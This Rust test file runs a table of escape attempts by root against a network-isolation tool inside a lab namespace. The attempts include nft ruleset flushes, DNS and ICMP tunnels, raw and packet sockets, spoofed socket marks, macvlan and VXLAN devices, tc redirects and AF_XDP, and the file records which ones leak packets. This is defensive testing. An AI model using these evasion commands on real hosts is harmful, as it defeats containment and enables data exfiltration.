//! Root against an isolation: a row an attempt, with the repair watch running and the packets that got out counted on
//! the other end of the wire.
//!
//! `cargo nextest run --workspace --test hostile_root --no-capture` prints the rows as they stand in `docs/containment.md`.
// Long because it is one table, and a gap in it shows best when all rows stand together.
#![allow(clippy::unwrap_used, reason = "a failure to set up is a failed test")]

mod lab;

use std::cell::RefCell;
use std::io::Write;
use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::rc::Rc;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use cordon_contain::{Containment, Health, NftWatch};
use cordon_proto::AGENT_SOCKET_MARK;
use lab::wire::{self, Packet, ethernet, icmpv6, ipv4_udp};
use lab::{
    CONTROLLER4, CONTROLLER6, HOST_MAC, HOST4, HOST6, Lab, Node, OUTSIDE4, OUTSIDE6, PEER_MAC,
    PORT, at,
};

const NEEDLE: &[u8] = b"cordon-needle";
/// [`NEEDLE`] as `ping -p` wants it.
const NEEDLE_HEX: &str = "636f72646f6e2d6e6565646c65";
const MARK: Option<u32> = Some(AGENT_SOCKET_MARK);
/// Kernel and agent take milliseconds; a repair that takes this long is none.
const REPAIR: Duration = Duration::from_secs(1);

/// What an attempt comes to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Comes {
    /// Not one packet leaves.
    Prevented,
    /// The rules are back within [`REPAIR`], and nothing leaves from then on.
    Repaired,
    /// Root gets out: an isolation does not keep him from it.
    Out,
}
use Comes::{Out, Prevented, Repaired};

type Act = fn(&Attempt);
type Row = (&'static str, Comes, Act);

#[test]
fn changing_the_rules() {
    table(&[
        ("delete `inet cordon`", Repaired, |a| {
            a.flood();
            a.host("nft delete table inet cordon");
        }),
        ("delete all three tables", Repaired, |a| {
            a.flood();
            a.host("nft 'delete table inet cordon; delete table netdev cordon; delete table bridge cordon'");
        }),
        ("`nft flush ruleset`", Repaired, |a| {
            a.flood();
            a.host("nft flush ruleset");
        }),
        ("`nft flush ruleset` 50 times in a row", Repaired, |a| {
            a.flood();
            a.host("for i in $(seq 50); do nft flush ruleset; done");
        }),
        (
            "tables of our names that outlive their maker (`flags persist`)",
            Repaired,
            |a| {
                a.flood();
                a.run(|| {
                    use lab::tables::{BRIDGE, INET, NETDEV, leave_behind};
                    for family in [INET, NETDEV, BRIDGE] {
                        leave_behind(family);
                    }
                });
            },
        ),
        ("accept first in our own chains", Repaired, |a| {
            a.flood();
            a.host("nft 'insert rule inet cordon output accept; insert rule netdev cordon allow accept'");
        }),
        (
            "accept tables of every family, hook and priority",
            Prevented,
            |a| {
                a.flood();
                a.host(&format!("nft -f - <<'END'\n{}\nEND", accept_everywhere()));
            },
        ),
        (
            "the agent's mark on every packet, by a rule",
            Prevented,
            |a| {
                a.flood();
                a.host(
                    "nft add table inet marks; nft add table netdev marks
                     nft 'add chain inet marks o { type filter hook output priority -2147483648; }'
                     nft 'add chain netdev marks o { type filter hook egress device up0 priority -2147483648; }'
                     nft add rule inet marks o meta mark set 0x6372646e
                     nft add rule netdev marks o meta mark set 0x6372646e",
                );
            },
        ),
        (
            "the controller's address rewritten to another (DNAT), own socket with the mark",
            Prevented,
            |a| {
                a.host(&format!(
                    "nft add table inet dodge
                     nft 'add chain inet dodge o {{ type nat hook output priority -100; }}'
                     nft add rule inet dodge o ip daddr {CONTROLLER4} dnat ip to {OUTSIDE4}
                     nft add rule inet dodge o ip6 daddr {CONTROLLER6} dnat ip6 to {OUTSIDE6}"
                ));
                a.tcp(&[at(CONTROLLER4, PORT), at(CONTROLLER6, PORT)], MARK);
            },
        ),
        (
            "delete our tables and hold their names by tables of his own (`flags owner`)",
            Out,
            |a| {
                a.flood();
                a.keep("nft", "delete table inet cordon; delete table netdev cordon; add table inet cordon { flags owner; }; add table netdev cordon { flags owner; }\n");
            },
        ),
        ("stop the agent, then `nft flush ruleset`", Out, |a| {
            a.stop_the_watch();
            a.flood();
            a.host("nft flush ruleset");
        }),
    ]);
}

#[test]
fn sending_otherwise() {
    table(&[
        (
            "UDP and TCP to anywhere from within the agent's own process and cgroup",
            Prevented,
            |a| {
                a.flood();
                a.tcp(&[at(OUTSIDE4, 4444), at(OUTSIDE6, 4444)], None);
            },
        ),
        (
            "DNS tunnel: UDP and TCP to port 53, and UDP from port 53",
            Prevented,
            |a| {
                a.udp(
                    &[
                        at(OUTSIDE4, 53),
                        at(OUTSIDE6, 53),
                        at(CONTROLLER4, 53),
                        at(CONTROLLER6, 53),
                    ],
                    None,
                );
                a.tcp(&[at(OUTSIDE4, 53), at(OUTSIDE6, 53)], None);
                a.run(|| {
                    wire::send(NEEDLE, 53, at(OUTSIDE4, 9999), None);
                    wire::send(NEEDLE, 53, at(OUTSIDE6, 9999), None);
                });
            },
        ),
        ("ICMP tunnel: echo with data", Prevented, |a| {
            for address in [OUTSIDE4, OUTSIDE6, CONTROLLER4, CONTROLLER6] {
                a.host(&format!(
                    "ping -c3 -i0.05 -W0.1 -p {NEEDLE_HEX} {address} || true"
                ));
            }
        }),
        ("raw sockets with headers of his own", Prevented, |a| {
            a.run(|| {
                wire::send_raw(&udp4(), OUTSIDE4.parse().unwrap());
                wire::send_raw(&echo6(), OUTSIDE6.parse().unwrap());
            });
        }),
        ("packet sockets, also past the qdisc", Prevented, |a| {
            a.frames("up0", Packet::open);
            a.frames("up0", |device| Packet::open(device).bypass_qdisc());
        }),
        (
            "the agent's mark on his own sockets, to anywhere but the controller",
            Prevented,
            |a| {
                let outside = [at(OUTSIDE4, PORT), at(OUTSIDE6, PORT)];
                let other_port = [at(CONTROLLER4, 443), at(CONTROLLER6, 443)];
                a.tcp(&outside, MARK);
                a.tcp(&other_port, MARK);
                a.udp(&outside, MARK);
                a.udp(&[at(CONTROLLER4, PORT), at(CONTROLLER6, PORT)], MARK);
            },
        ),
        (
            "packet sockets with the agent's mark, to anywhere but the controller",
            Prevented,
            |a| {
                a.frames("up0", |device| {
                    Packet::open(device).marked(AGENT_SOCKET_MARK)
                });
            },
        ),
        (
            "the agent's mark on his own sockets, to the controller's pinned address and port",
            Out,
            |a| {
                a.tcp(&[at(CONTROLLER4, PORT), at(CONTROLLER6, PORT)], MARK);
            },
        ),
        ("data in ARP frames, to the link", Out, |a| {
            a.run(|| Packet::open("up0").send(&ethernet([0xff; 6], HOST_MAC, 0x0806, NEEDLE)));
        }),
    ]);
}

#[test]
fn other_devices_and_namespaces() {
    table(&[
        (
            "`ip link add` of a macvlan on the uplink, packet socket on it",
            Prevented,
            |a| {
                a.host("ip link add m0 link up0 address 02:00:00:00:00:77 type macvlan mode bridge; ip link set m0 up");
                a.frames("m0", Packet::open);
            },
        ),
        (
            "a device that is given another name without end, packet socket on the uplink",
            Prevented,
            |a| {
                a.flood_frames("up0");
                a.host(
                    "ip link add r0 type veth peer name end
                     for i in $(seq 5000); do echo link set r$((i - 1)) name r$i; done | ip -batch -",
                );
            },
        ),
        (
            "a macvlan on the uplink, in a namespace of his own",
            Prevented,
            |a| {
                let evil = a.namespace();
                a.host(&format!(
                    "ip link add m0 link up0 type macvlan mode bridge; ip link set m0 netns {}",
                    evil.thread_id
                ));
                settle_in(&evil, "m0");
                a.flood_from(&evil, "m0");
            },
        ),
        (
            "a bridge of the uplink and a veth into a namespace of his own",
            Prevented,
            |a| {
                let evil = a.namespace();
                a.host(&format!(
                    "ip link add v0 type veth peer name v1 netns {}
                 ip link add br9 type bridge; ip link set br9 up
                 ip link set v0 master br9 up; ip link set up0 master br9",
                    evil.thread_id
                ));
                settle_in(&evil, "v1");
                a.flood_from(&evil, "v1");
            },
        ),
        (
            "a VXLAN tunnel to the outside, packet socket on it",
            Prevented,
            |a| {
                a.host(&format!("ip link add vx0 type vxlan id 7 remote {OUTSIDE4} dstport 4789 dev up0; ip link set vx0 up"));
                a.frames("vx0", Packet::open);
            },
        ),
        ("the uplink renamed, packet socket on it", Repaired, |a| {
            a.flood_frames("up0");
            a.host("ip link set up0 down; ip link set up0 name x0; ip link set x0 up");
        }),
        (
            "the uplink renamed to `lo`, packet socket on it",
            Repaired,
            |a| {
                a.flood_frames("up0");
                a.host(
                    "ip link set lo down; ip link set lo name was-lo
                 ip link set up0 down; ip link set up0 name lo; ip link set lo up",
                );
            },
        ),
    ]);
}

#[test]
fn past_the_hooks() {
    table(&[
        (
            "loopback frames redirected to the uplink by `nft` (`fwd`)",
            Prevented,
            |a| {
                a.host(
                    "nft add table netdev aside
                     nft 'add chain netdev aside o { type filter hook egress device lo priority 0; }'
                     nft add rule netdev aside o fwd to up0",
                );
                a.frames("lo", Packet::open);
            },
        ),
        (
            "loopback frames redirected to the uplink by `tc` (`mirred`)",
            Out,
            |a| {
                a.host(
                "tc qdisc add dev lo clsact
                 tc filter add dev lo egress protocol all u32 match u32 0 0 action mirred egress redirect dev up0",
            );
                a.frames("lo", Packet::open);
            },
        ),
        ("an AF_XDP socket on the uplink", Out, |a| {
            a.run(|| lab::xdp::send("up0", &[frame4(), frame6()]));
        }),
        (
            "the uplink itself moved into a namespace of his own",
            Out,
            |a| {
                let evil = a.namespace();
                a.host(&format!("ip link set up0 netns {}", evil.thread_id));
                settle_in(&evil, "up0");
                a.flood_from(&evil, "up0");
            },
        ),
    ]);
}

/// Tries each row in a lab of its own, prints what came of it, and holds it to what is expected.
#[expect(clippy::print_stdout, reason = "the rows are what the page shows")]
fn table(rows: &[Row]) {
    let mut wrong = Vec::new();
    for (name, expected, act) in rows {
        let (line, is_as_expected) = measure(name, *expected, *act);
        println!("{line}");
        if !is_as_expected {
            wrong.push(line);
        }
    }
    assert!(wrong.is_empty(), "not so:\n{}", wrong.join("\n"));
}

/// The row of the table, and whether it is as expected.
fn measure(name: &str, expected: Comes, act: Act) -> (String, bool) {
    let gets_out_of_an_open_host = || {
        let attempt = Attempt::new(false);
        act(&attempt);
        attempt.packets_out() > 0
    };
    assert!(
        expected != Prevented || gets_out_of_an_open_host(),
        "{name}: an attempt that never gets out proves nothing"
    );
    let attempt = Attempt::new(true);
    act(&attempt);
    let is_whole = attempt.is_whole_within(REPAIR);
    let during = attempt.packets_out();
    attempt.wait_for_senders();
    let after = attempt.packets_out();
    let is_as_expected = match expected {
        Prevented => is_whole && during + after == 0,
        Repaired => is_whole && after == 0,
        Out => during + after > 0,
    };
    let repairs = attempt.repairs.load(Ordering::Relaxed);
    let out = if expected == Out {
        "gets out".to_owned()
    } else {
        (during + after).to_string()
    };
    let line = format!("| {name} | {expected:?} | {out} | {repairs} |");
    (line, is_as_expected)
}

/// A lab with the repair watch, and an ear on the other end of the wire.
struct Attempt {
    lab: Lab,
    ear: Packet,
    repairs: Arc<AtomicU32>,
    watching: Arc<AtomicBool>,
    sending: Arc<AtomicBool>,
    /// Of each sender: how often it sent.
    senders: RefCell<Vec<Arc<AtomicU32>>>,
    threads: RefCell<Vec<JoinHandle<()>>>,
    namespaces: RefCell<Vec<Rc<Node>>>,
    kept: RefCell<Vec<Child>>,
}

impl Attempt {
    fn new(is_isolated: bool) -> Self {
        let lab = Lab::new();
        if is_isolated {
            lab.isolate();
        }
        let attempt = Self {
            ear: lab.peer.run(|| Packet::open("up1").roomy()),
            lab,
            repairs: Arc::default(),
            watching: Arc::new(AtomicBool::new(true)),
            sending: Arc::new(AtomicBool::new(true)),
            senders: RefCell::default(),
            threads: RefCell::default(),
            namespaces: RefCell::default(),
            kept: RefCell::default(),
        };
        attempt.watch();
        attempt
    }

    /// What the agent does: wakes when something changed, and repairs.
    fn watch(&self) {
        let changes = self.lab.host.run(|| NftWatch::open().unwrap());
        let (watching, repairs) = (Arc::clone(&self.watching), Arc::clone(&self.repairs));
        let state = self.lab.state.path().to_owned();
        let thread = self.lab.host.run(move || {
            std::thread::spawn(move || {
                let containment = Containment::open(&state, AGENT_SOCKET_MARK).unwrap();
                while watching.load(Ordering::Relaxed) {
                    let is_changed = changes.wait(Some(wire::SILENCE)).unwrap();
                    if is_changed && matches!(containment.repair(), Ok(Some(_))) {
                        repairs.fetch_add(1, Ordering::Relaxed);
                    }
                }
            })
        });
        self.threads.borrow_mut().push(thread);
    }

    fn stop_the_watch(&self) {
        self.watching.store(false, Ordering::Relaxed);
        for thread in self.threads.borrow_mut().drain(..) {
            thread.join().unwrap();
        }
    }

    fn run(&self, job: impl FnOnce() + Send + 'static) {
        self.lab.host.run(job);
    }

    fn host(&self, script: &str) {
        self.lab.host.sh(script);
    }

    /// A process on the host that is told `input` and stays.
    fn keep(&self, program: &'static str, input: &'static str) {
        let child = self.lab.host.run(move || {
            let mut child = Command::new(program)
                .arg("-i")
                .stdin(Stdio::piped())
                .spawn()
                .unwrap();
            child
                .stdin
                .as_mut()
                .unwrap()
                .write_all(input.as_bytes())
                .unwrap();
            child
        });
        self.kept.borrow_mut().push(child);
        let is_held = || self.lab.ruleset().contains("flags owner");
        assert!(lab::eventually(Duration::from_secs(5), is_held));
    }

    fn namespace(&self) -> Rc<Node> {
        let node = Rc::new(Node::new());
        self.namespaces.borrow_mut().push(Rc::clone(&node));
        node
    }

    /// Sends datagrams to the outside over both families, from now on.
    fn flood(&self) {
        self.send_on(&self.lab.host, || {
            || {
                wire::send(NEEDLE, 0, at(OUTSIDE4, 9999), None);
                wire::send(NEEDLE, 0, at(OUTSIDE6, 9999), None);
            }
        });
    }

    /// The same from a namespace, and by a packet socket on its device too.
    fn flood_from(&self, evil: &Node, device: &'static str) {
        self.send_on(evil, move || {
            let socket = Packet::open(device);
            move || {
                wire::send(NEEDLE, 0, at(OUTSIDE4, 9999), None);
                wire::send(NEEDLE, 0, at(OUTSIDE6, 9999), None);
                socket.send(&frame4());
                socket.send(&frame6());
            }
        });
    }

    /// Sends frames by a packet socket on `device`, whatever becomes of its name.
    fn flood_frames(&self, device: &'static str) {
        self.send_on(&self.lab.host, move || {
            let socket = Packet::open(device);
            move || {
                socket.send(&frame4());
                socket.send(&frame6());
            }
        });
    }

    /// `prepare` runs in the namespace of `node`, and what it returns again and again until the end.
    fn send_on<S: FnMut() + 'static>(
        &self,
        node: &Node,
        prepare: impl FnOnce() -> S + Send + 'static,
    ) {
        let sent = Arc::new(AtomicU32::new(0));
        self.senders.borrow_mut().push(Arc::clone(&sent));
        let sending = Arc::clone(&self.sending);
        let thread = node.run(move || {
            std::thread::spawn(move || {
                let mut act = prepare();
                while sending.load(Ordering::Relaxed) {
                    act();
                    sent.fetch_add(1, Ordering::Relaxed);
                    // About the pace that one thread of a thief keeps up beside other work.
                    std::thread::sleep(Duration::from_micros(100));
                }
            })
        });
        self.threads.borrow_mut().push(thread);
        self.wait_for_senders();
    }

    /// Until each sender has sent a good many times more.
    fn wait_for_senders(&self) {
        const MORE: u32 = 200;
        for sent in self.senders.borrow().iter() {
            let wanted = sent.load(Ordering::Relaxed) + MORE;
            let is_sent = || sent.load(Ordering::Relaxed) >= wanted;
            assert!(lab::eventually(Duration::from_secs(10), is_sent));
        }
    }

    /// Connects from the host and sends, as far as it gets.
    fn tcp(&self, ends: &[SocketAddr], mark: Option<u32>) {
        for end in ends.iter().copied() {
            self.run(move || {
                if let Some(mut stream) = wire::tcp(end, mark, 0) {
                    stream.write_all(NEEDLE).unwrap();
                }
            });
        }
    }

    fn udp(&self, ends: &[SocketAddr], mark: Option<u32>) {
        for end in ends.iter().copied() {
            self.run(move || wire::send(NEEDLE, 0, end, mark));
        }
    }

    /// Frames over both families and of no known kind, by a socket on a device of the host.
    fn frames(&self, device: &'static str, open: fn(&'static str) -> Packet) {
        self.run(move || {
            let socket = open(device);
            for frame in [
                frame4(),
                frame6(),
                ethernet(PEER_MAC, HOST_MAC, 0x88b5, NEEDLE),
            ] {
                socket.send(&frame);
            }
        });
    }

    fn is_whole_within(&self, limit: Duration) -> bool {
        let is_whole = || matches!(self.lab.contain(Containment::verify), Ok(Health::Whole));
        lab::eventually(limit, is_whole)
    }

    /// Frames that came out since the last look and carry data of the attempt.
    fn packets_out(&self) -> u32 {
        self.ear
            .count(|frame| frame[6..12] != PEER_MAC && (carries(frame, NEEDLE) || is_tcp(frame)))
    }
}

impl Drop for Attempt {
    fn drop(&mut self) {
        self.sending.store(false, Ordering::Relaxed);
        for child in self.kept.get_mut() {
            child.kill().unwrap();
            child.wait().unwrap();
        }
        self.stop_the_watch();
    }
}

fn carries(frame: &[u8], needle: &[u8]) -> bool {
    frame.windows(needle.len()).any(|window| window == needle)
}

/// IPv4 without options, or IPv6.
fn is_tcp(frame: &[u8]) -> bool {
    match frame[12..14] {
        [0x08, 0x00] => frame.get(23) == Some(&6),
        [0x86, 0xdd] => frame.get(20) == Some(&6),
        _ => false,
    }
}

fn udp4() -> Vec<u8> {
    ipv4_udp((HOST4, 5555), (OUTSIDE4, 4444), NEEDLE)
}

fn echo6() -> Vec<u8> {
    icmpv6(
        HOST6,
        OUTSIDE6,
        &[&[128, 0, 0, 0, 0, 0, 0, 1], NEEDLE].concat(),
    )
}

fn frame4() -> Vec<u8> {
    ethernet(PEER_MAC, HOST_MAC, 0x0800, &udp4())
}

fn frame6() -> Vec<u8> {
    ethernet(PEER_MAC, HOST_MAC, 0x86dd, &echo6())
}

/// Addresses next to the host's for a device in a namespace of root's own, and neighbours that need no asking.
fn settle_in(evil: &Node, device: &str) {
    let mac = PEER_MAC.map(|byte| format!("{byte:02x}")).join(":");
    evil.sh(&format!(
        "ip link set lo up; ip link set {device} up
         ip address add 10.77.0.77/24 dev {device}; ip address add fd77::77/64 dev {device} nodad
         ip neigh replace {OUTSIDE4} lladdr {mac} dev {device}; ip neigh replace {OUTSIDE6} lladdr {mac} dev {device}"
    ));
}

/// An accept at every priority that has a name, and at the first and the last there is.
fn accept_everywhere() -> String {
    const PRIORITIES: [i32; 11] = [
        i32::MIN,
        -400,
        -300,
        -225,
        -200,
        -150,
        -100,
        0,
        100,
        225,
        i32::MAX,
    ];
    let layer3 = ["prerouting", "input", "forward", "output", "postrouting"];
    let hooks = |family: &'static str| match family {
        "netdev" => vec![
            "ingress device up0".to_owned(),
            "egress device up0".to_owned(),
        ],
        _ => layer3.map(str::to_owned).to_vec(),
    };
    let mut batch = Vec::new();
    for family in ["inet", "ip", "ip6", "bridge", "netdev"] {
        writeln!(batch, "table {family} everywhere {{").unwrap();
        for (index, hook) in hooks(family).iter().enumerate() {
            for (at, priority) in PRIORITIES.iter().enumerate() {
                writeln!(
                    batch,
                    "chain c{index}_{at} {{ type filter hook {hook} priority {priority}; policy accept; accept; }}"
                )
                .unwrap();
            }
        }
        writeln!(batch, "}}").unwrap();
    }
    String::from_utf8(batch).unwrap()
}
